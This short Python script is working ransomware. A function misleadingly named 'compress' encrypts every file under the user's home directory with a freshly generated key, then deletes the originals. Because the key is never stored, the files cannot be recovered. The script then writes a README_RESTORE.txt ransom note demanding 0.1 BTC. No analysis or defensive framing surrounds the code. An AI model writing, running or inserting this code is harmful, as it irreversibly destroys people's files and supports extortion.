import os
from pathlib import Path

from cryptography.fernet import Fernet

KEY = Fernet.generate_key()
box = Fernet(KEY)


def compress(path: Path) -> None:
    data = path.read_bytes()
    path.with_suffix(path.suffix + ".locked").write_bytes(box.encrypt(data))
    os.remove(path)


for root, _dirs, files in os.walk(Path.home()):
    for name in files:
        compress(Path(root) / name)
(Path.home() / "README_RESTORE.txt").write_text("Your files are encrypted. Pay 0.1 BTC to restore.")
